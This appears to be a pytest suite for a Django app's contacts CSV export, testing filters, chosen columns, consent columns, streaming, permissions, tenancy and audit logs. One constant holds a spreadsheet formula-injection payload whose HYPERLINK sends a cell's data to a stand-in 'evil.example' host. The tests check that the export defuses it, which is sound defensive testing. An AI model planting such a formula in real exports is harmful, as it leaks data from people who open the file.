"""The contacts export (portal page and API): the list's filters, chosen columns, consent per channel, streamed."""

import csv
import io
import logging
import re

import pytest
from django.urls import reverse

from apps.contacts.models import ConsentState
from apps.contacts.services import consent_record, contact_erase, contact_merge
from apps.contacts.services.contact_csv import DEFAULT_COLUMNS, contacts_csv
from apps.contacts.services.import_parse import import_parse_rows
from tests.factories.contacts import AttributeDefinitionFactory, ContactFactory, IdentityFactory, grant

pytestmark = pytest.mark.django_db

API = "/api/v1/contacts/export.csv"
ATTACK = '=HYPERLINK("https://evil.example/?leak="&B2,"Abrir")'


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response.streaming and response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"] == 'attachment; filename="contacts.csv"'
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _dicts(response) -> list[dict]:
    header, *rows = _csv(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def _ids(response) -> list[int]:
    return [int(row["id"]) for row in _dicts(response)]


def _revoke(contact, channel="whatsapp", purpose="marketing"):
    return consent_record(
        merchant=contact.merchant, contact=contact, channel=channel, purpose=purpose, action="revoke",
        source="agent", wording="No more offers, please",
    )  # fmt: skip


@pytest.fixture
def marketer_c(member_client, marketer_membership):
    return member_client(marketer_membership)


@pytest.fixture
def audience(merchant):
    """Five contacts: vip ones and not, granted on WhatsApp and not, one reachable on Messenger."""
    people = [ContactFactory(merchant=merchant, name=f"Person {i}", tags=["vip"] if i % 2 else []) for i in range(5)]
    grant(people[1])
    grant(people[2])
    IdentityFactory(contact=people[3], kind="messenger", external_id="psid-3")
    return people


# ------------------------------------------------------------------ filters: exactly the list's
@pytest.mark.parametrize(
    "params",
    [{}, {"tag": "vip"}, {"consent": "whatsapp:granted"}, {"tag": "vip", "consent": "whatsapp:granted"},
     {"consent": "whatsapp:marketing:none"}, {"channel": "messenger"}, {"q": "Person 4"}],
)  # fmt: skip
def test_the_api_export_holds_exactly_the_api_lists_rows(api, audience, params):
    listed = [row["id"] for row in api.get("/api/v1/contacts/", params).data["results"]]
    assert _ids(api.get(API, params)) == listed  # newest first, like the list


def test_the_api_export_filters_select_the_expected_contacts(api, audience):
    assert _ids(api.get(API, {"tag": "vip", "consent": "whatsapp:granted"})) == [audience[1].pk]
    assert _ids(api.get(API, {"phone": audience[0].phone})) == [audience[0].pk]
    assert _ids(api.get(API, {"messenger_psid": "psid-3"})) == [audience[3].pk]


@pytest.mark.parametrize("params", [{"tag": "vip"}, {"consent": "whatsapp:granted"}, {"channel": "messenger"}])
def test_the_portal_export_holds_exactly_the_portal_lists_rows(marketer_c, audience, params):
    listed = [contact.pk for contact in marketer_c.get(reverse("contacts:list"), params).context["contacts"]]
    assert _ids(marketer_c.get(reverse("contacts:list_export_csv"), params)) == listed


def test_erased_and_merged_contacts_are_not_exported(api, merchant):
    kept, erased, merged = (ContactFactory(merchant=merchant, name=name) for name in ("Kept", "Erased", "Merged"))
    contact_erase(contact=erased)
    contact_merge(source=merged, target=kept)
    rows = _dicts(api.get(API, {"columns": "id,name,phone,email"}))
    assert [row["id"] for row in rows] == [str(kept.pk)]
    assert "Erased" not in str(rows) and "Merged" not in str(rows)


# ------------------------------------------------------------------ columns
def test_default_columns(api, merchant):
    contact = ContactFactory(merchant=merchant, name="Ana", tags=["vip", "spring sale"])
    IdentityFactory(contact=contact, external_id="34600111222")
    header, row = _csv(api.get(API))
    assert header == [*DEFAULT_COLUMNS, "consent_whatsapp_marketing_since"]
    assert dict(zip(header, row, strict=True)) == {
        # A spreadsheet reads "+34…" as a sum: the shared writer keeps the plus as text.
        "id": str(contact.pk), "name": "Ana", "phone": "'" + contact.phone, "email": contact.email,
        "whatsapp_id": "34600111222", "tags": "vip, spring sale", "created_at": contact.created_at.isoformat(),
        "consent_whatsapp_marketing": "none", "consent_whatsapp_marketing_since": "",
    }  # fmt: skip


def test_chosen_columns_in_the_order_given_with_attributes(api, merchant):
    AttributeDefinitionFactory(merchant=merchant, key="tier")
    AttributeDefinitionFactory(merchant=merchant, key="newsletter", type="boolean")
    contact = ContactFactory(
        merchant=merchant, name="Ana", locale="es", timezone="Europe/Madrid",
        attributes={"tier": "gold", "newsletter": True},
    )  # fmt: skip
    IdentityFactory(contact=contact, kind="messenger", external_id="psid-1")
    response = api.get(f"{API}?columns=attr:tier,name&columns=messenger_psid,locale,timezone,attr:newsletter,id,name")
    assert _csv(response) == [
        ["attr:tier", "name", "messenger_psid", "locale", "timezone", "attr:newsletter", "id"],
        ["gold", "Ana", "psid-1", "es", "Europe/Madrid", "true", str(contact.pk)],
    ]


def test_consent_state_per_channel_and_purpose_with_its_since(api, merchant):
    contact = ContactFactory(merchant=merchant)
    grant(contact, channel="whatsapp")
    _revoke(contact, channel="messenger")
    grant(contact, channel="email", purpose="utility")
    states = {(s.channel, s.purpose): s.since.isoformat() for s in ConsentState.objects.filter(contact=contact)}
    columns = "consent_whatsapp_marketing,consent_messenger_marketing,consent_email_utility,consent_sms_marketing"
    (row,) = _dicts(api.get(API, {"columns": columns}))
    assert row == {
        "consent_whatsapp_marketing": "granted", "consent_whatsapp_marketing_since": states[("whatsapp", "marketing")],
        "consent_messenger_marketing": "revoked",
        "consent_messenger_marketing_since": states[("messenger", "marketing")],
        "consent_email_utility": "granted", "consent_email_utility_since": states[("email", "utility")],
        "consent_sms_marketing": "none", "consent_sms_marketing_since": "",
    }  # fmt: skip


def test_a_pending_double_opt_in_is_exported_as_pending(api, merchant):
    merchant.settings = {"double_opt_in": True}
    merchant.save()
    contact = ContactFactory(merchant=merchant)
    grant(contact, source="web_form")
    (row,) = _dicts(api.get(API, {"columns": "consent_whatsapp_marketing"}))
    assert row["consent_whatsapp_marketing"] == "pending"


def test_an_unknown_column_is_a_400_naming_it(api, merchant):
    AttributeDefinitionFactory(merchant=merchant, key="tier")
    response = api.get(API, {"columns": "id,shoe_size,attr:tier,consent_fax_marketing"})
    assert response.status_code == 400
    (message,) = response.json()["error"]["fields"]["columns"]
    assert message.startswith("Unknown column “shoe_size”, “consent_fax_marketing”; choose from: id, name")
    assert "attr:tier" in message


def test_another_merchants_attribute_is_an_unknown_column(api, other_merchant):
    AttributeDefinitionFactory(merchant=other_merchant, key="secret_score")
    response = api.get(API, {"columns": "attr:secret_score"})
    assert response.status_code == 400 and "“attr:secret_score”" in response.json()["error"]["message"]


@pytest.mark.parametrize(
    ("params", "field"), [({"consent": "whatsapp:maybe"}, "consent"), ({"channel": "fax"}, "channel")]
)
def test_a_bad_filter_is_a_400_naming_it(api, params, field):
    response = api.get(API, params)
    assert response.status_code == 400 and list(response.json()["error"]["fields"]) == [field]


def test_a_formula_in_a_name_or_attribute_is_defused_by_the_shared_writer(api, merchant):
    AttributeDefinitionFactory(merchant=merchant, key="note")
    ContactFactory(merchant=merchant, name=ATTACK, attributes={"note": "@SUM(1+1)"}, tags=["-2+3"])
    (row,) = _dicts(api.get(API, {"columns": "name,attr:note,tags"}))
    assert row == {"name": "'" + ATTACK, "attr:note": "'@SUM(1+1)", "tags": "'-2+3"}


# ------------------------------------------------------------------ streaming
@pytest.fixture
def small_chunks(settings):
    settings.CONTACTS_EXPORT_CHUNK = 3


def test_the_response_streams_and_reads_three_queries_a_chunk(
    merchant, admin_membership, small_chunks, django_assert_num_queries
):
    for i in range(7):  # chunks of 3, 3 and 1
        grant(IdentityFactory(contact=ContactFactory(merchant=merchant, name=f"P{i}")).contact)
    columns = ["id", "whatsapp_id", "consent_whatsapp_marketing"]
    with django_assert_num_queries(0):
        lines = contacts_csv(merchant=merchant, filters={}, columns=columns, user=admin_membership.user)
        header = next(lines)  # nothing is read before the first row is asked for
    assert header.startswith("id,whatsapp_id,")
    with django_assert_num_queries(3):  # the first chunk: contacts, their identities, their consent states
        next(lines)
    with django_assert_num_queries(6):  # two more chunks; the short last one ends it without another query
        rest = list(lines)
    assert len(rest) == 6 and all(",granted," in line for line in rest)


def test_without_consent_columns_a_chunk_is_two_queries(
    merchant, admin_membership, small_chunks, django_assert_num_queries
):
    for _ in range(6):  # two full chunks, then one query finds the end
        ContactFactory(merchant=merchant)
    with django_assert_num_queries(2 + 2 + 1):
        user = admin_membership.user
        lines = list(contacts_csv(merchant=merchant, filters={}, columns=["id", "whatsapp_id"], user=user))
    assert len(lines) == 7


def test_chunks_never_repeat_or_skip_a_contact(api, merchant, small_chunks):
    people = [ContactFactory(merchant=merchant) for _ in range(10)]
    assert _ids(api.get(API, {"columns": "id"})) == [c.pk for c in reversed(people)]


# ------------------------------------------------------------------ permissions, tenancy, audit
@pytest.mark.parametrize(("role", "code"), [("admin", 200), ("marketer", 200), ("agent", 403)])
def test_who_may_export_on_the_portal_and_the_api(member_client, merchant, role, code):
    from tests.factories.merchants import MembershipFactory

    client = member_client(MembershipFactory(merchant=merchant, role=role))
    ContactFactory(merchant=merchant)
    assert client.get(reverse("contacts:list_export")).status_code == code
    assert client.get(reverse("contacts:list_export_csv")).status_code == code
    assert client.get(API).status_code == code  # the API with the portal's session


@pytest.mark.parametrize(("scopes", "code"), [(("marketing",), 200), (("messaging",), 403), (("admin",), 200)])
def test_api_key_scopes(api_client, merchant, scopes, code):
    assert api_client(merchant, scopes=scopes).get(API).status_code == code


def test_another_merchants_contacts_never_appear(api, other_api, marketer_c, merchant, other_merchant):
    mine = ContactFactory(merchant=merchant, name="Mine", tags=["vip"])
    ContactFactory(merchant=other_merchant, name="Theirs", tags=["vip"])
    assert _ids(api.get(API, {"tag": "vip"})) == [mine.pk]
    assert _ids(marketer_c.get(reverse("contacts:list_export_csv"), {"tag": "vip"})) == [mine.pk]
    assert "Mine" not in b"".join(other_api.get(API).streaming_content).decode()


def test_each_export_leaves_one_audit_line_without_the_persons_identifiers(
    marketer_c, marketer_membership, merchant, caplog
):
    ContactFactory(merchant=merchant, email="ana@example.test", tags=["vip"])
    with caplog.at_level(logging.INFO, logger="apps.contacts.services.contact_csv"):
        _csv(marketer_c.get(reverse("contacts:list_export_csv"), {"tag": "vip", "q": "ana@example.test",
                                                                   "columns": ["id", "email"]}))  # fmt: skip
    (record,) = [r for r in caplog.records if r.getMessage().startswith("contacts.exported")]
    assert (record.merchant_id, record.actor, record.columns) == (merchant.pk, f"member:{marketer_membership.user.pk}",
                                                                  ["id", "email"])  # fmt: skip
    assert record.filters == {"tag": "vip", "q": "<given>"}
    assert "ana@example.test" not in record.getMessage()


def test_an_api_keys_export_is_audited_as_the_key(api_client, merchant, caplog):
    from apps.merchants.models import ApiKey

    client = api_client(merchant, scopes=("marketing",))
    with caplog.at_level(logging.INFO, logger="apps.contacts.services.contact_csv"):
        _csv(client.get(API))
    (record,) = [r for r in caplog.records if r.getMessage().startswith("contacts.exported")]
    assert record.actor == f"api_key:{ApiKey.objects.get(merchant=merchant).pk}"


# ------------------------------------------------------------------ portal
def test_the_list_offers_export_with_its_current_filters_to_managers_only(marketer_c, member_client,
                                                                         agent_membership, merchant):  # fmt: skip
    ContactFactory(merchant=merchant, tags=["vip"])
    page = marketer_c.get(reverse("contacts:list"), {"tag": "vip", "consent": "whatsapp:granted"}).content.decode()
    assert f'href="{reverse("contacts:list_export")}?tag=vip&amp;consent=whatsapp%3Agranted"' in page
    agent_page = member_client(agent_membership).get(reverse("contacts:list")).content.decode()
    assert reverse("contacts:list_export") not in agent_page


def test_the_export_page_keeps_the_filters_and_ticks_the_default_columns(marketer_c, merchant):
    AttributeDefinitionFactory(merchant=merchant, key="tier")
    ContactFactory(merchant=merchant, tags=["vip"])
    ContactFactory(merchant=merchant)
    response = marketer_c.get(reverse("contacts:list_export"), {"tag": "vip", "after": "99"})
    page = response.content.decode()
    assert response.status_code == 200 and "1 contact." in page
    assert '<input type="hidden" name="tag" value="vip">' in page and 'name="after"' not in page
    assert f'action="{reverse("contacts:list_export_csv")}"' in page
    assert 'value="attr:tier"' in page and 'value="consent_sms_utility"' in page
    assert set(re.findall(r'name="columns" value="([^"]+)"[^>]* checked', page)) == set(DEFAULT_COLUMNS)


def test_the_portal_export_downloads_the_ticked_columns(marketer_c, merchant):
    contact = ContactFactory(merchant=merchant, name="Ana", tags=["vip"])
    ContactFactory(merchant=merchant, name="Bea")
    response = marketer_c.get(reverse("contacts:list_export_csv"), {"tag": "vip", "columns": ["name", "id"]})
    assert _csv(response) == [["name", "id"], ["Ana", str(contact.pk)]]


def test_an_unknown_column_on_the_portal_is_a_form_error(marketer_c, merchant):
    response = marketer_c.get(reverse("contacts:list_export_csv"), {"columns": ["id", "shoe_size"]})
    assert response.status_code == 400 and not response.streaming
    assert response.context["form"].errors["columns"][0].startswith("Unknown column “shoe_size”")


def test_a_bad_filter_on_the_portal_is_shown_and_nothing_is_exported(marketer_c, merchant):
    ContactFactory(merchant=merchant)
    response = marketer_c.get(reverse("contacts:list_export_csv"), {"consent": "whatsapp:maybe"})
    assert response.status_code == 400 and not response.streaming
    assert response.context["filter_errors"][0].startswith("consent: Unknown status “maybe”")


def test_an_exported_file_imports_back_as_the_same_phones_and_names(api, merchant):
    """The writer defuses `+34…` and `=…` with an apostrophe for spreadsheets; the import reads it off again."""
    ContactFactory(merchant=merchant, name=ATTACK, phone="+34600111222")
    text = b"".join(api.get(API, {"columns": "name,phone"}).streaming_content).decode()
    rows, errors = import_parse_rows(text, merchant=merchant, mapping={"name": "name", "phone": "phone"}, defaults={})
    assert errors == []
    assert [(row.profile["name"], row.profile["phone"]) for row in rows] == [(ATTACK, "+34600111222")]
